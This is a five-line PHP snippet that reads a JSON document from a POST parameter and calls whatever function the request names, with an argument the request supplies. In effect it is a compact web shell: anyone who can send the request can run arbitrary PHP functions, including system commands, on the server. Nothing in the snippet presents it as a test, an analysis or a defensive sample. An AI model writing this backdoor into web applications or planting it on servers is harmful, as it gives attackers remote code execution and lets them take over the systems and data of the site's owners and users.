<?php
// a posted JSON document, decoded as a whole, names the function to run
$raw = $_POST['j'];
$o = json_decode($raw, true);
$o['f']($o['a']);
